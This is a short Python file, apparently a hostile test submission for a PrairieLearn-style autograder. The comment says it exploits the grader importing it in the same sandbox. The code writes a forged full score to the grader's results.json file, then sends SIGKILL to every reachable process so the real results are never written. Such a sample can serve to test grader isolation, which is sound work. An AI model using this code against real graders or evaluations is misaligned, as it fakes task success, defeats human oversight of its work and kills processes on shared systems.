# Hostile: the grader imports this in a child process of the same sandbox (PrairieLearn's
# contract), so it can write a full score and kill the grader before the real results are written.
import json
import os
import signal

json.dump({"gradable": True, "score": 1, "message": "forged"}, open("/grade/results/results.json", "w"))
os.kill(-1, signal.SIGKILL)
